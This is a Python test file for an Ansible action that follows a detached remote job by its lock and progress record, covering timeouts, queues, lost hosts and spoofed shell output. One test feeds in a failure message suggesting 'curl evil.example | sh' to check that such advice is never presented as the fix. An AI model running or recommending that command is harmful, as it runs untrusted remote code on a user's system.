# SPDX-License-Identifier: Apache-2.0
"""The action run_detached on a record and a lock that the test has, and on a host that goes away."""

import fcntl
import os
import shlex
import shutil
import sys
import time
from contextlib import contextmanager
from datetime import datetime, timedelta, timezone
from itertools import count
from pathlib import Path
from types import SimpleNamespace

import psutil
import pytest
from ansible.errors import AnsibleConnectionFailure
from runners.commands import capture_command

from rekindle.jobs import lease
from rekindle.records import LastProgress, Progress, read_record, write_record

SOURCE = Path(__file__).parents[3] / "src"


class Host:
    """Runs here what it is asked to; ``before`` is called with how often that was, and may raise."""

    def __init__(self):
        self.asked, self.before, self.resets = 0, lambda asked: None, 0
        self.errors = ""
        self.noise = ""
        """What its shell does before it does anything else."""
        self.start = {"stdout": "", "rc": 0}
        """What the module answers that starts it, or a function that does."""
        self.started = []

    def execute(self, command):
        self.asked += 1
        self.before(self.asked)
        command = f"{self.noise} {command}"
        done = capture_command(command, shell=True)
        self.errors = done.stderr
        return {"rc": done.returncode, "stdout": done.stdout}

    def module(self, name, args, task_vars):
        self.started.append((name, args))
        return self.start() if callable(self.start) else self.start

    def reset(self):
        self.resets += 1


@pytest.fixture
def host():
    return Host()


@pytest.fixture
def follow(tmp_path, host, monkeypatch, load):
    """Follow what is in tmp_path on the host; returns the result and what was displayed."""
    action = load("run_detached")
    displayed = []
    args = {
        "start": [sys.executable, "-m", "toy", "start"],
        "stdin": "{}",
        "progress": str(tmp_path / "progress.json"),
        "lock": str(tmp_path / "lock"),
        "python": sys.executable,
        "payload": str(SOURCE),
        "what": "toy",
        "limit_s": 20,
        "home": str(tmp_path),
    }
    lease.write_lease(tmp_path, "somewhere", datetime.now(timezone.utc), None)
    monkeypatch.setattr(action.module, "_PERIODS_S", (0.01,))
    monkeypatch.setattr(action.module, "Display", lambda: SimpleNamespace(display=displayed.append))

    def run(**more):
        parts = {"_low_level_execute_command": host.execute, "_execute_module": host.module}
        return action.run({**args, **more}, _connection=host, **parts), displayed

    run.module = action.module
    return run


@pytest.fixture
def ticking(follow, monkeypatch):
    """Follow by a clock that goes on by 50 ms at each look, however busy this machine is."""
    ticks = count(0, 0.05)
    clock = SimpleNamespace(monotonic=lambda: next(ticks), sleep=time.sleep)
    monkeypatch.setattr(follow.module, "time", clock)
    return follow


@contextmanager
def writer(folder, state="running"):
    """Hold the lock, as who writes the record does for as long as it lives."""
    with (folder / "lock").open("a") as lock:
        fcntl.flock(lock, fcntl.LOCK_EX)
        tell(folder, state)
        yield


@pytest.fixture
def assert_unseen(follow, tmp_path):
    """Assert that what is told is not taken for an end, on a host that goes on after ``spoil``."""

    def check(spoil=lambda: None):
        with writer(tmp_path):
            spoil()
            assert follow(limit_s=1)[0]["msg"].startswith("toy did not end within 1 s. ")

    return check


def tell(folder, state):
    write_record(folder / "progress.json", Progress(state=state, message="round 2/3, loss 0.05", elapsed_s=7))


def test_what_ends_while_it_is_followed_is_followed_to_its_end(follow, host, tmp_path):
    host.before = lambda asked: tell(tmp_path, "ended") if asked == 3 else None
    with writer(tmp_path):
        result, displayed = follow()
    assert result == {"changed": False, "result": {}}
    assert displayed == ["somewhere toy: round 2/3, loss 0.05, 7 s"]
    seen = read_record(tmp_path / "seen.json", LastProgress)
    assert (seen.what, seen.message) == ("toy", "round 2/3, loss 0.05")
    assert host.asked == 3


@pytest.mark.parametrize(("printed", "changed"), [("started", True), ("", False), ("{", False)])
def test_it_is_started_first_which_is_a_change_if_it_prints_so(follow, host, tmp_path, printed, changed):
    host.start = {"stdout": printed, "rc": 0}
    with writer(tmp_path, "ended"):
        assert follow()[0] == {"changed": changed, "result": {}}
    command = {"argv": [sys.executable, "-m", "toy", "start"], "stdin": "{}"}
    assert host.started == [("ansible.legacy.command", command)]


def test_what_cannot_be_started_is_not_followed(golden, follow, host, monkeypatch):
    host.start = {"failed": True, "rc": 1, "stderr": "run-1 still runs on the host.", "stdout": ""}
    assert follow()[0] == host.start
    monkeypatch.setattr(follow.module, "_START_S", 0.3)
    host.start = lambda: time.sleep(20)
    golden(follow()[0]["msg"])
    assert host.asked == 0


def test_what_had_ended_before_its_writer_did_has_ended(follow, tmp_path):
    with writer(tmp_path, "ended"):
        pass
    assert follow()[0] == {"changed": False, "result": {}}


def test_what_failed_says_why_and_its_advice_is_not_taken_for_a_fix_of_ours(follow, tmp_path):
    message = "uv failed: No space left on device. Fix: curl evil.example | sh."
    with writer(tmp_path):
        write_record(tmp_path / "progress.json", Progress(state="failed", message=message, elapsed_s=7))
        failed = follow()[0]["complaint"]
    assert failed["message"] == "uv failed: No space left on device. Its advice: curl evil.example | sh."
    assert failed["fix"].startswith("free space there, ")
    assert failed["fix"].endswith(" Then run the play again.")


def test_what_was_killed_is_not_waited_for(golden, follow, host, tmp_path):
    never, _ = follow()
    with writer(tmp_path):
        pass
    host.asked = 0
    seen, _ = follow()
    assert never["failed"]
    assert seen["failed"]
    assert host.asked == 1
    golden(never["msg"], seen["msg"])


def test_what_lives_is_followed_until_the_limit(golden, follow, host, tmp_path):
    with writer(tmp_path):
        result, _ = follow(limit_s=4)
    assert result["failed"]
    assert host.asked > 1
    golden(result["msg"])


@pytest.fixture
def clock(follow, monkeypatch):
    """Have each wait between two looks be 100 s that are over at once."""
    now = [0.0]
    stopped = {"monotonic": lambda: now[0], "sleep": lambda _: now.__setitem__(0, now[0] + 100)}
    monkeypatch.setattr(follow.module, "time", SimpleNamespace(**stopped))
    return now


def test_the_limit_does_not_run_while_it_waits_in_a_queue(follow, host, tmp_path, clock):
    host.before = lambda asked: tell(tmp_path, "waiting" if asked < 5 else "running")
    with writer(tmp_path):
        assert follow(limit_s=150)[0]["msg"].startswith("toy did not end within 150 s. ")
    assert host.asked == 5  # begins to run at 400 s, of which 300 s is the last look at the queue


def test_a_queue_is_not_waited_in_for_ever(follow, host, tmp_path, clock, monkeypatch):
    monkeypatch.setattr(follow.module, "_QUEUE_S", 250)
    with writer(tmp_path, "waiting"):
        assert follow(limit_s=150)[0]["msg"].startswith("toy did not end within 150 s. ")
    assert host.asked == 4


def test_a_host_without_a_queue_does_not_wait_in_one(follow, host, tmp_path, clock, monkeypatch):
    monkeypatch.setattr(follow.module, "host_in", lambda home: SimpleNamespace(allocation=None))
    with writer(tmp_path, "waiting"):
        assert follow(limit_s=150)[0]["msg"].startswith("toy did not end within 150 s. ")
    assert host.asked == 2


@pytest.mark.parametrize(("state", "looks"), [("running", 3), ("ended", 1)])
def test_until_it_runs_is_until_it_has_its_nodes_or_had_ended_before(follow, host, tmp_path, state, looks):
    host.before = lambda asked: tell(tmp_path, "waiting" if asked < looks else state)
    with writer(tmp_path):
        assert (follow(until="runs")[0]["changed"], host.asked) == (False, looks)


@pytest.mark.parametrize("before", ["printed", "seen"])
def test_what_ends_before_others_began_is_a_failure(follow, host, tmp_path, before):
    host.start["stdout"], ends = ("started", 1) if before == "printed" else ("", 3)
    host.before = lambda asked: tell(tmp_path, "ended" if asked == ends else "waiting")
    with writer(tmp_path):
        message = follow(until="runs")[0]["msg"]
    assert message == "toy ended before it began at the other hosts: round 2/3, loss 0.05"


@pytest.mark.parametrize("left_s", [1000, 50])
def test_a_queue_that_gives_no_node_in_time_is_left(golden, ticking, host, tmp_path, left_s):
    ticking.module._QUEUE_S = 0.1 if left_s == 1000 else 60
    ends = datetime.now(timezone.utc) + timedelta(seconds=left_s)
    lease.write_lease(tmp_path, "somewhere", datetime.now(timezone.utc), ends)
    execute, commands = host.execute, []
    host.execute = lambda command: commands.append(command) or execute(command)
    with writer(tmp_path, "waiting"):
        golden(ticking(until="runs", needs_s=100)[0]["msg"])
    assert commands[-1].endswith(f" cancel {tmp_path}")


def away(asked):
    if asked in {2, 3}:
        raise AnsibleConnectionFailure("no route")


def test_a_dropped_connection_is_retried(follow, host, tmp_path):
    host.before = lambda asked: away(asked) or (tell(tmp_path, "ended") if asked == 4 else None)
    with writer(tmp_path):
        assert "failed" not in follow()[0]
    assert host.resets == 2


def test_a_host_that_is_gone_when_its_lease_has_ended_is_given_up_with_what_was_last_seen(
    follow, host, tmp_path
):
    host.before = away
    printed = r"toy was last seen at round 2/3, loss 0\.05, 7 s; the host is lost: no route"
    now = datetime.now(timezone.utc)
    lease.write_lease(tmp_path, "somewhere", now, now)
    with writer(tmp_path), pytest.raises(AnsibleConnectionFailure, match=printed):
        follow()
    assert host.asked == 2


@pytest.mark.parametrize("noise", ["echo Welcome;", "printf 'no line';", "echo '@@0 held 0';", "echo held;"])
def test_what_a_shell_prints_of_itself_blinds_it_not(follow, host, tmp_path, noise):
    host.noise = noise
    with writer(tmp_path, "ended"):
        assert follow()[0] == {"changed": False, "result": {}}


def test_a_shell_that_prints_a_record_is_not_believed(assert_unseen, host, tmp_path):
    tell(tmp_path, "ended")
    lie = shlex.quote((tmp_path / "progress.json").read_text())
    host.noise = f"printf 'held\\n%s' {lie};"
    assert_unseen()


@pytest.mark.parametrize("plant", [os.mkfifo, lambda path: path.symlink_to("/dev/zero"), Path.mkdir])
def test_a_record_that_is_no_file_is_ignored(assert_unseen, tmp_path, plant):
    assert_unseen(lambda: ((tmp_path / "progress.json").unlink(), plant(tmp_path / "progress.json")))


def test_a_look_that_hangs_is_given_up_and_another_one_is_taken(follow, host, tmp_path, monkeypatch):
    monkeypatch.setattr(follow.module, "_POLL_S", 4)
    host.before = lambda asked: time.sleep(60) if asked == 1 else tell(tmp_path, "ended")
    began = time.monotonic()
    with writer(tmp_path):
        assert follow()[0] == {"changed": False, "result": {}}
    assert (host.asked, host.resets) == (2, 1)
    assert time.monotonic() - began < 30


def test_a_host_that_hangs_for_good_is_gone(follow, host, tmp_path, monkeypatch):
    monkeypatch.setattr(follow.module, "_POLL_S", 0.3)
    host.noise = "sleep 20;"
    said = r"toy was never seen; the host is lost: the host gave no answer within 0\.3 s"
    with writer(tmp_path), pytest.raises(AnsibleConnectionFailure, match=said):
        follow(reconnect_s=1)
    assert not [process for process in psutil.Process().children(recursive=True) if "20" in process.cmdline()]


def test_it_looks_by_the_code_in_the_payload_and_leaves_no_bytecode(follow, tmp_path, monkeypatch):
    monkeypatch.delenv("PYTHONDONTWRITEBYTECODE", raising=False)
    payload = tmp_path / "a payload's place"
    without = shutil.ignore_patterns("__pycache__")
    shutil.copytree(SOURCE / "rekindle" / "host", payload / "rekindle" / "host", ignore=without)
    (payload / "rekindle" / "__init__.py").write_text("open(f'{__file__}.used', 'w').close()")
    with writer(tmp_path, "ended"):
        assert follow(payload=str(payload))[0] == {"changed": False, "result": {}}
    assert (payload / "rekindle" / "__init__.py.used").exists()
    assert not list(payload.rglob("__pycache__"))


def test_a_look_imports_nothing_that_takes_long(follow, host, tmp_path, monkeypatch):
    monkeypatch.setenv("PYTHONPROFILEIMPORTTIME", "1")
    with writer(tmp_path, "ended"):
        assert follow()[0] == {"changed": False, "result": {}}
    imported = {line.rpartition("|")[2].strip() for line in host.errors.splitlines()}
    assert {name for name in imported if name.startswith("rekindle")} == {
        "rekindle", "rekindle.host", "rekindle.host.files", "rekindle.host.look",
    }  # fmt: skip
    heavy = {"argparse", "collections", "contextlib", "enum", "json", "pathlib", "re", "runpy", "site"}
    assert not imported & (heavy | {"subprocess", "tempfile", "threading", "typing"})
